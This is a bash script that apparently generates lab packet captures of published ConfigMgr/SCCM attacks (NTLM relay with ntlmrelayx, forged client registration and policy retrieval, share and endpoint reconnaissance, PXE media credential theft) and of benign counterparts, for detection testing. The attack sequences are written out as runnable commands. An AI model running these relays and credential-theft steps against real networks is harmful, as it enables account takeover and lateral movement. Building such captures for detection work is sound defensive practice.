#!/bin/bash
# make-attacks.sh OUTDIR [CAPTURE...]: captures of the published ConfigMgr attack techniques ("Misconfiguration
# Manager" CRED-1, CRED-2, RECON-2/3, ELEVATE/TAKEOVER relays; sccmhunter, SharpSCCM, PXEThief, ntlmrelayx) and of
# the ordinary traffic they must be told from, made by real programs between network namespaces with the
# addresses of signatures/example-site.conf, recorded from the lab switch's span port (tests/lab/lab.sh).
# Each capture gets a lab of its own (namespaces cma<N>-*); OUTDIR/cm-<name>.pcap is written for each CAPTURE
# (default: all of them):
#
#   attack-relay      ntlmrelayx relays the site server's smbclient login and its curl --ntlm login (both made to
#                     an outsider) to the SMB service of another site system (Samba), and an NTLM login to the
#                     management point's HTTP (cm-web.py --windows-auth)
#   ntlm-normal       the negative: the same logins made straight to the servers, nothing relayed
#   smb-signing       Samba with server signing = disabled, = default and = mandatory: SMB2 NEGOTIATE responses
#   attack-cred2      CRED-2 from an outsider: registration (NTLM) -> policy assignments -> .sms_pol with
#                     ClientToken headers, with the tools' user agent and multipart boundary
#   client-reg        the negative: a configured client's registration and policy polling ("SMS CCM 5.0")
#   attack-recon      RECON-3's HTTP(S) probes (sccmhunter's order), then RECON-2's share listings
#   attack-pxe        CRED-1: PXEThief's request to UDP 4011 of the PXE service point, a blank-password answer
#                     (option 243 type 2), the TFTP read of the .var file (dnsmasq), and
#                     GET /SMS_MP/.sms_aut?MPKEYINFORMATIONMEDIA
#   pxe-protected     the same against password-protected media (option 243 type 1), and an ordinary PXE client's
#                     DHCP exchange with dnsmasq (no option 243 at all)
#
# Real programs: impacket's ntlmrelayx.py and smbclient.py (python3-impacket), Samba smbd and smbclient, curl,
# Python's http.server (tests/lab/cm-web.py), openssl, dnsmasq (TFTP, DHCP), tests/lab/pxe-lab.py (the PXE
# responder and client: no Debian program answers with ConfigMgr's options).
# Debian packages: iproute2 tcpdump python3 python3-impacket curl openssl samba smbclient dnsmasq-base util-linux
set -euo pipefail
outdir=${1:?usage: make-attacks.sh OUTDIR [CAPTURE...]}
shift
here=$(cd "$(dirname "$0")" && pwd)
all=(attack-relay ntlm-normal smb-signing attack-cred2 client-reg attack-recon attack-pxe pxe-protected)
[ $# -gt 0 ] || set -- "${all[@]}"

. "$here/lab.sh" # its helpers (each capture sources it again for a lab of its own)
lab_need ip iproute2
lab_need tcpdump tcpdump
lab_need curl curl
lab_need openssl openssl
lab_need smbd samba
lab_need smbpasswd samba-common-bin
lab_need smbclient smbclient
lab_need dnsmasq dnsmasq-base
lab_need unshare util-linux
# impacket lives in Debian's python, whichever python3 comes first in PATH
PY=/usr/bin/python3
IMPACKET=/usr/share/doc/python3-impacket/examples
$PY -c 'import impacket' 2>/dev/null || { echo "make-attacks.sh: missing impacket (python3-impacket)" >&2; exit 1; }
[ -f "$IMPACKET/ntlmrelayx.py" ] || { echo "make-attacks.sh: missing $IMPACKET/ntlmrelayx.py" >&2; exit 1; }
lab_require_root "network namespaces"
mkdir -p "$outdir"
outdir=$(cd "$outdir" && pwd)

# The lab's accounts: the client push account the site server uses (relayed), the network access account a fake
# client authenticates with, and a domain user. Samba and curl use them; no password here is anyone's real one.
PUSH_USER=cmpush PUSH_PASS='Push-Lab-2024'
NAA_USER=cmnaa NAA_PASS='Naa-Lab-2024'
CLIENT_USER='CLIENT22$' CLIENT_PASS='Machine-Lab-2024'
TOOL_UA='ConfigMgr Messaging HTTP Sender'
TOOL_BOUNDARY='aAbBcCdDv1234567890VxXyYzZ'
CLIENT_UA='SMS CCM 5.0'

# host NAME MAC ADDR: a lab host on the 10/8 network with a fixed MAC, no IPv6 chatter
host() { lab_quiet_host "$1" "$2" "$3/8"; }

quiet() { "$@" >/dev/null 2>&1 || echo "make-attacks.sh: warning: $* failed" >&2; }

# bg NAME CMD...: lab_bg with the server's output in the capture's log, not on the terminal
bg() { lab_bg "$1" "${@:2}" >>"$work/servers.log" 2>&1 </dev/null; }

# The lab's accounts (lab.sh's lab_users: seen only by the commands run through LAB_AS_USERS)
users() { lab_users "$work" "$PUSH_USER" "$NAA_USER" "$(echo "$CLIENT_USER" | tr 'A-Z' 'a-z')"; }

# smb NAME ADDR SIGNING SHARE...: a Samba server of its own in host NAME (workgroup ABC, SMB2 and later), with
# server signing = SIGNING, the lab's accounts, and guest-readable SHAREs (an empty directory each).
smb() {
	local name=$1 addr=$2 signing=$3 d=$work/smb-$1 share
	shift 3
	mkdir -p "$d"
	cat >"$d/smb.conf" <<EOF
[global]
	workgroup = ABC
	netbios name = $(echo "$name" | tr 'a-z' 'A-Z')
	server role = standalone server
	interfaces = $addr/8
	bind interfaces only = yes
	smb ports = 445
	disable netbios = yes
	map to guest = bad user
	guest account = nobody
	server signing = $signing
$(lab_smb_state "$d")
	server min protocol = SMB2
EOF
	for share in "$@"; do
		mkdir -p "$d/share-$share"
		printf '[%s]\n\tpath = %s\n\tguest ok = yes\n\tread only = yes\n' "$share" "$d/share-$share" >>"$d/smb.conf"
	done
	chmod -R a+rX "$d"
	local adduser="" u p
	for u in "$PUSH_USER:$PUSH_PASS" "$NAA_USER:$NAA_PASS" "$CLIENT_USER:$CLIENT_PASS"; do
		p=${u#*:}
		u=$(echo "${u%%:*}" | tr 'A-Z' 'a-z')
		adduser+="printf '%s\\n%s\\n' '$p' '$p' | smbpasswd -c '$d/smb.conf' -s -a '$u' >/dev/null; "
	done
	bg "$name" "${LAB_AS_USERS[@]}" sh -c "$adduser exec smbd --foreground --no-process-group -s '$d/smb.conf'"
}

# web NAME PORT [ARGS...]: tests/lab/cm-web.py in host NAME
web() {
	local name=$1
	shift
	bg "$name" python3 "$here/cm-web.py" "$@"
}

# certificate: one self-signed certificate for the lab's HTTPS servers
certificate() {
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=abc.example" \
		-addext "subjectAltName=DNS:mp01.abc.example,DNS:provider01.abc.example" \
		-keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
}

# ntlmrelayx TARGET ARGS...: impacket's ntlmrelayx.py in the attacker's host, relaying to TARGET. It reads its
# standard input and stops at EOF: a sleep keeps it open. Its LDAP attack imports python3-dsinternals, which
# Debian lacks: empty stand-in modules on PYTHONPATH let it start (LDAP is not used here).
relay_stub() {
	local m=$work/pystub/dsinternals
	mkdir -p "$m/system" "$m/common/cryptography" "$m/common/data/hello"
	touch "$m/__init__.py" "$m/system/__init__.py" "$m/common/__init__.py" "$m/common/cryptography/__init__.py" \
		"$m/common/data/__init__.py" "$m/common/data/hello/__init__.py"
	echo 'class Guid: pass' >"$m/system/Guid.py"
	echo 'class DateTime: pass' >"$m/system/DateTime.py"
	echo 'class X509Certificate2: pass' >"$m/common/cryptography/X509Certificate2.py"
	echo 'class KeyCredential: pass' >"$m/common/data/hello/KeyCredential.py"
}
ntlmrelayx() {
	local target=$1
	shift
	bg attacker sh -c "cd '$work' && sleep 60 | PYTHONPATH='$work/pystub' $PY '$IMPACKET/ntlmrelayx.py' \
		-t '$target' -smb2support --no-wcf-server --no-raw-server -l '$work/loot' $* >>'$work/ntlmrelayx.log' 2>&1"
}

# wait_port NAME PROTO PORT: until host NAME listens there (at most 30 s: impacket starts slowly on a busy machine)
wait_port() {
	local i
	for i in $(seq 300); do
		lab_exec "$1" ss -Hln"${2:0:1}" "sport = :$3" 2>/dev/null | grep -q . && return 0
		sleep 0.1
	done
	echo "make-attacks.sh: nothing listens on $1 $2/$3" >&2
	return 1
}

# ---------------------------------------------------------------------------------------------------------------

cap_attack_relay() {
	host siteserver 02:00:0a:01:00:05 10.1.0.5
	host mp 02:00:0a:01:00:0a 10.1.0.10
	host sql 02:00:0a:01:00:14 10.1.0.20
	host attacker 02:00:0a:07:00:63 10.7.0.99
	users
	relay_stub
	smb sql 10.1.0.20 default 'SMS_SITE'
	web mp 80 --windows-auth
	wait_port sql tcp 445
	wait_port mp tcp 80
	lab_capture_start "$1"
	# 1-2: the site server's SMB login to the outsider (a coerced client push), relayed to SMB on the SQL server
	ntlmrelayx smb://10.1.0.20 --no-http-server
	wait_port attacker tcp 445
	# (smbclient fails: the relay answers the victim with an error once it has what it wanted)
	lab_exec siteserver smbclient -m SMB3 -n SITESERVER -W ABC -U "$PUSH_USER%$PUSH_PASS" '//10.7.0.99/ADMIN$' -c 'ls' \
		>/dev/null 2>&1 || true
	sleep 4
	kill_relay
	# 3-4: the site server's HTTP NTLM login to the outsider, relayed to SMB on the SQL server
	ntlmrelayx smb://10.1.0.20 --no-smb-server
	wait_port attacker tcp 80
	quiet lab_exec siteserver curl -s --max-time 10 --ntlm -u "ABC\\$PUSH_USER:$PUSH_PASS" http://10.7.0.99/ccmsetup/
	sleep 4
	kill_relay
	# 5-6: the same HTTP login relayed to the management point's Windows-authenticated path (CRED-2 by relay);
	# on port 8080: the last relay's port 80 is still held by its closed connections (TIME_WAIT)
	ntlmrelayx http://10.1.0.10/ccm_system_windowsauth/request --no-smb-server --http-port 8080
	wait_port attacker tcp 8080
	quiet lab_exec siteserver curl -s --max-time 10 --ntlm -u "ABC\\$PUSH_USER:$PUSH_PASS" http://10.7.0.99:8080/ccmsetup/
	sleep 4
	kill_relay
	lab_capture_stop
}

# ends the ntlmrelayx started last (its whole process group in the attacker's namespace)
kill_relay() {
	local pid
	for pid in $(ip netns pids "${LAB_ID}-attacker" 2>/dev/null); do
		kill "$pid" 2>/dev/null || true
	done
	sleep 1
}

cap_ntlm_normal() {
	host siteserver 02:00:0a:01:00:05 10.1.0.5
	host mp 02:00:0a:01:00:0a 10.1.0.10
	host sql 02:00:0a:01:00:14 10.1.0.20
	host client22 02:00:0a:02:00:16 10.2.0.22
	users
	smb sql 10.1.0.20 default 'SMS_SITE'
	web mp 80 --windows-auth
	wait_port sql tcp 445
	wait_port mp tcp 80
	lab_capture_start "$1"
	# 1: the site server's SMB login straight to the SQL server
	quiet lab_exec siteserver smbclient -m SMB3 -n SITESERVER -W ABC -U "$PUSH_USER%$PUSH_PASS" '//10.1.0.20/SMS_SITE' -c 'ls'
	# 2: a client's HTTP NTLM login (its machine account) straight to the management point
	quiet lab_exec client22 curl -s --max-time 10 --ntlm -u "ABC\\$CLIENT_USER:$CLIENT_PASS" -A "$CLIENT_UA" \
		-X CCM_POST --data-binary 'registration' http://10.1.0.10/ccm_system_windowsauth/request
	lab_capture_stop
}

cap_smb_signing() {
	host dp 02:00:0a:01:00:0b 10.1.0.11
	host sup 02:00:0a:01:00:0c 10.1.0.12
	host mp 02:00:0a:01:00:0a 10.1.0.10
	host client21 02:00:0a:02:00:15 10.2.0.21
	users
	smb dp 10.1.0.11 disabled 'SMSPKGC$'
	smb sup 10.1.0.12 default 'WsusContent'
	smb mp 10.1.0.10 mandatory 'SMS_SITE'
	wait_port dp tcp 445
	wait_port sup tcp 445
	wait_port mp tcp 445
	lab_capture_start "$1"
	# one connection to each: the NEGOTIATE response's SecurityMode is the server's signing setting; anonymous
	# logins to the first two, a user's to the third (an anonymous session cannot sign)
	quiet lab_exec client21 smbclient -U% -m SMB3 -n CLIENT21 '//10.1.0.11/SMSPKGC$' -c 'ls'
	quiet lab_exec client21 smbclient -U% -m SMB3 -n CLIENT21 '//10.1.0.12/WsusContent' -c 'ls'
	quiet lab_exec client21 smbclient -m SMB3 -n CLIENT21 -W ABC -U "$NAA_USER%$NAA_PASS" '//10.1.0.10/SMS_SITE' -c 'ls'
	lab_capture_stop
}

# multipart BOUNDARY HEADER-XML PAYLOAD-XML OUT: a ConfigMgr message body as the tools and clients send it: a
# UTF-16 text part (the message header) and an octet-stream part (the zlib-compressed UTF-16 payload)
multipart() {
	$PY - "$@" <<'EOF'
import sys, zlib
boundary, header, payload, out = sys.argv[1:5]
b = boundary.encode()
body = b"--" + b + b"\r\ncontent-type: text/plain; charset=UTF-16\r\n\r\n" + header.encode("utf-16")
body += b"\r\n--" + b + b"\r\ncontent-type: application/octet-stream\r\n\r\n"
body += zlib.compress(payload.encode("utf-16")) + b"\r\n--" + b + b"--"
open(out, "wb").write(body)
EOF
}

# ccm_sequence HOST UA BOUNDARY CLIENT_ID USER PASS: registration (NTLM), policy assignments, one policy body
ccm_sequence() {
	local h=$1 ua=$2 boundary=$3 id=$4 user=$5 pass=$6 now
	now=$(date -u +%Y-%m-%dT%H:%M:%SZ)
	multipart "$boundary" '<Msg SchemaVersion="1.1"><ID/><TargetEndpoint>MP_ClientRegistration</TargetEndpoint><ReplyMode>Sync</ReplyMode></Msg>' \
		"<ClientRegistrationRequest><Data RequestType=\"Registration\" TimeStamp=\"$now\"><AgentInformation AgentIdentity=\"CCMSetup.exe\"/><Certificates/><DiscoveryProperties><Property Name=\"Netbios Name\" Value=\"$h\"/></DiscoveryProperties></Data></ClientRegistrationRequest>" \
		"$work/reg-$h.body"
	multipart "$boundary" '<Msg SchemaVersion="1.1"><ID/><TargetEndpoint>MP_PolicyManager</TargetEndpoint><ReplyMode>Sync</ReplyMode></Msg>' \
		"<RequestAssignments SchemaVersion=\"1.00\" RequestType=\"Always\"><PolicySource>SMS:ABC</PolicySource><Resource ResourceType=\"Machine\"/><Identification><Machine><ClientID>GUID:$id</ClientID></Machine></Identification></RequestAssignments>" \
		"$work/pol-$h.body"
	local ct="Content-Type: multipart/mixed; boundary=\"$boundary\""
	quiet lab_exec "$h" curl -s --max-time 10 --ntlm -u "ABC\\$user:$pass" -A "$ua" -H "$ct" -X CCM_POST \
		--data-binary "@$work/reg-$h.body" http://10.1.0.10/ccm_system_windowsauth/request
	quiet lab_exec "$h" curl -s --max-time 10 -A "$ua" -H "$ct" -X CCM_POST --data-binary "@$work/pol-$h.body" \
		http://10.1.0.10/ccm_system/request
	# the policy body: a signed client token (GUID;time;2) and its signature, as hex
	local token="GUID:$id;$now;2" sig
	sig=$(printf '%s' "$token" | openssl dgst -sha256 -sign "$work/key.pem" | od -An -v -tx1 | tr -d ' \n' | tr a-f A-F)
	quiet lab_exec "$h" curl -s -g --max-time 10 -A "$ua" -H "ClientToken: $token" -H "ClientTokenSignature: $sig" \
		"http://10.1.0.10/SMS_MP/.sms_pol?{c6fe32fb-7e9c-4776-abe3-2a6d107447f1}.2_00"
}

cap_attack_cred2() {
	host mp 02:00:0a:01:00:0a 10.1.0.10
	host attacker 02:00:0a:07:00:63 10.7.0.99
	certificate
	web mp 80 --windows-auth
	wait_port mp tcp 80
	lab_capture_start "$1"
	ccm_sequence attacker "$TOOL_UA" "$TOOL_BOUNDARY" 9E1D2A7C-51B4-4D0A-8B3E-6C2F0A1D7E55 "$NAA_USER" "$NAA_PASS"
	lab_capture_stop
}

cap_client_reg() {
	host mp 02:00:0a:01:00:0a 10.1.0.10
	host client22 02:00:0a:02:00:16 10.2.0.22
	certificate
	web mp 80 --windows-auth
	wait_port mp tcp 80
	lab_capture_start "$1"
	ccm_sequence client22 "$CLIENT_UA" "----------8dc7435e9f41a2b" 3F6A0C1E-2B7D-4E91-A5C8-0D4B6E2F9A13 \
		"$CLIENT_USER" "$CLIENT_PASS"
	# and the client's next ordinary policy poll a little later
	sleep 2
	quiet lab_exec client22 curl -s --max-time 10 -A "$CLIENT_UA" -X CCM_POST \
		-H 'Content-Type: multipart/mixed; boundary="----------8dc7435e9f41a2b"' \
		--data-binary "@$work/pol-client22.body" http://10.1.0.10/ccm_system/request
	lab_capture_stop
}

cap_attack_recon() {
	host siteserver 02:00:0a:01:00:05 10.1.0.5
	host mp 02:00:0a:01:00:0a 10.1.0.10
	host dp 02:00:0a:01:00:0b 10.1.0.11
	host sup 02:00:0a:01:00:0c 10.1.0.12
	host provider 02:00:0a:01:00:13 10.1.0.19
	host attacker 02:00:0a:07:00:63 10.7.0.99
	users
	certificate
	web mp 80 --windows-auth
	web mp 443 --windows-auth --tls "$work/cert.pem" "$work/key.pem"
	web provider 443 --windows-auth --tls "$work/cert.pem" "$work/key.pem"
	smb siteserver 10.1.0.5 default 'SMS_SITE' 'SMS_ABC'
	smb dp 10.1.0.11 default 'SMS_DP$' 'REMINST' 'SMSPKGC$'
	smb sup 10.1.0.12 default 'WsusContent'
	wait_port mp tcp 80
	wait_port mp tcp 443
	wait_port provider tcp 443
	wait_port siteserver tcp 445
	wait_port dp tcp 445
	wait_port sup tcp 445
	lab_capture_start "$1"
	local ua='python-requests/2.28.1' a=attacker
	# sccmhunter's probe order (HTTP first, then HTTPS; requests' own user agent); the HTTPS probes by name, as
	# the tool is given names, so that the TLS ClientHello names the server
	local mp=(--resolve mp01.abc.example:443:10.1.0.10) prov=(--resolve provider01.abc.example:443:10.1.0.19)
	quiet lab_exec $a curl -s -o /dev/null --max-time 5 -A "$ua" http://10.1.0.10/ccm_system_windowsauth/
	quiet lab_exec $a curl -sk -o /dev/null --max-time 5 -A "$ua" "${mp[@]}" https://mp01.abc.example/ccm_system_windowsauth/
	quiet lab_exec $a curl -sk -o /dev/null --max-time 5 -A "$ua" "${mp[@]}" https://mp01.abc.example/ccm_system_altauth/
	quiet lab_exec $a curl -sk -o /dev/null --max-time 5 -A "$ua" "${mp[@]}" -X CCM_POST \
		https://mp01.abc.example/ccm_system_altauth/request
	quiet lab_exec $a curl -sk -o /dev/null --max-time 5 -A "$ua" "${prov[@]}" https://provider01.abc.example/adminservice/wmi/
	# the same probes in cleartext, so that their URLs and answers show on the wire
	quiet lab_exec $a curl -s -o /dev/null --max-time 5 -A "$ua" http://10.1.0.10/ccm_system_altauth/
	quiet lab_exec $a curl -s -o /dev/null --max-time 5 -A "$ua" -X CCM_POST http://10.1.0.10/ccm_system_altauth/request
	# RECON-2: the site systems' shares, listed anonymously (smbclient -L) and with impacket's smbclient.py
	quiet lab_exec $a smbclient -U% -m SMB3 -n KALI -L //10.1.0.5
	quiet lab_exec $a smbclient -U% -m SMB3 -n KALI -L //10.1.0.11
	quiet lab_exec $a smbclient -U% -m SMB3 -n KALI -L //10.1.0.12
	printf 'shares\nexit\n' >"$work/shares.cmd"
	quiet lab_exec $a $PY "$IMPACKET/smbclient.py" -file "$work/shares.cmd" "ABC/$NAA_USER:$NAA_PASS@10.1.0.11"
	lab_capture_stop
}

# pxe_common OUT MEDIA: the PXE service point (10.1.0.15) answering on 4011 with MEDIA (key or path), its TFTP
# server (dnsmasq) holding the .var and .bcd files, and the management point
pxe_common() {
	host mp 02:00:0a:01:00:0a 10.1.0.10
	host psp 02:00:0a:01:00:0f 10.1.0.15
	host attacker 02:00:0a:07:00:63 10.7.0.99
	mkdir -p "$work/tftp/SMSTemp"
	head -c 4096 /dev/urandom >"$work/tftp/SMSTemp/2024.05.14.10.31.52.0001.{5C1F8A3E-7D2B-4C6A-9E0F-1A2B3C4D5E6F}.boot.var"
	head -c 2048 /dev/urandom >"$work/tftp/SMSTemp/2024.05.14.10.31.52.0003.{5C1F8A3E-7D2B-4C6A-9E0F-1A2B3C4D5E6F}.boot.bcd"
	chmod -R a+rX "$work/tftp"
	bg psp $PY "$here/pxe-lab.py" serve --address 10.1.0.15 --media "$2"
	bg psp dnsmasq --no-daemon --port=0 --enable-tftp --tftp-root="$work/tftp" --listen-address=10.1.0.15 \
		--bind-interfaces --user=root --pid-file="$work/dnsmasq.pid"
	web mp 80
	wait_port psp udp 4011
	wait_port psp udp 69
	wait_port mp tcp 80
}

# pxe_steal: what PXEThief does from the attacker's host, each step's answer feeding the next
pxe_steal() {
	local paths var
	paths=$(lab_exec attacker $PY "$here/pxe-lab.py" request --server 10.1.0.15 --client 10.7.0.99 \
		--mac 02:00:0a:07:00:63) || { echo "make-attacks.sh: no PXE answer" >&2; return 0; }
	var=$(echo "$paths" | sed -n 1p)
	# TFTP read of the variables file (curl sends the name as given, backslashes and all)
	quiet lab_exec attacker curl -s -g --max-time 10 -o /dev/null "tftp://10.1.0.15/$(echo "$var" | sed 's/\\/%5C/g')"
	quiet lab_exec attacker curl -s --max-time 5 -A "$TOOL_UA" 'http://10.1.0.10/SMS_MP/.sms_aut?MPKEYINFORMATIONMEDIA'
}

cap_attack_pxe() {
	pxe_common "$1" key
	lab_capture_start "$1"
	pxe_steal
	lab_capture_stop
}

cap_pxe_protected() {
	pxe_common "$1" path
	host pxeclient 02:00:0a:02:00:33 10.2.0.51
	# an ordinary DHCP server (infrastructure, 10.9.0.2) with a PXE boot menu pointing at the PXE service point,
	# for the clients' addresses (no ConfigMgr options)
	host dhcp 02:00:0a:09:00:02 10.9.0.2
	bg dhcp dnsmasq --no-daemon --port=0 --listen-address=10.9.0.2 --bind-interfaces --user=root \
		--pid-file="$work/dnsmasq-dhcp.pid" --no-ping --dhcp-range=10.2.0.50,10.2.0.60,255.0.0.0,1h \
		--dhcp-boot=boot/x64/wdsmgfw.efi,psp01,10.1.0.15 --pxe-service=x86-64_EFI,"Boot from the network",boot/x64/wdsmgfw.efi,10.1.0.15 \
		--dhcp-leasefile="$work/leases"
	wait_port dhcp udp 67
	lab_capture_start "$1"
	pxe_steal
	# the ordinary PXE client (unconfigured address: it has none yet) asks the DHCP server
	lab_exec pxeclient ip addr flush dev eth0
	quiet lab_exec pxeclient $PY "$here/pxe-lab.py" discover --mac 02:00:0a:02:00:33
	lab_capture_stop
}

n=0
for name in "$@"; do
	case " ${all[*]} " in *" $name "*) ;; *) echo "make-attacks.sh: no capture named $name" >&2; exit 2 ;; esac
	n=$((n + 1))
	(
		LAB_ID=cma$n
		. "$here/lab.sh"
		work=$(mktemp -d)
		chmod 755 "$work"
		lab_up
		# the relay tool's own account of what it did, then everything down
		trap 'set +e; lab_down; [ ! -s "$work/ntlmrelayx.log" ] || grep -v "^\[\*\] Protocol Client" \
			"$work/ntlmrelayx.log" | sed "s/^/ntlmrelayx: /" >&2; rm -rf "$work"' EXIT
		# lab_capture_start waits for the file to grow: an old one must not count
		rm -f "$outdir/cm-$name.pcap"
		"cap_${name//-/_}" "$outdir/cm-$name.pcap"
		echo "make-attacks.sh: wrote $outdir/cm-$name.pcap ($(tcpdump -r "$outdir/cm-$name.pcap" 2>/dev/null | wc -l) packets)"
	)
done
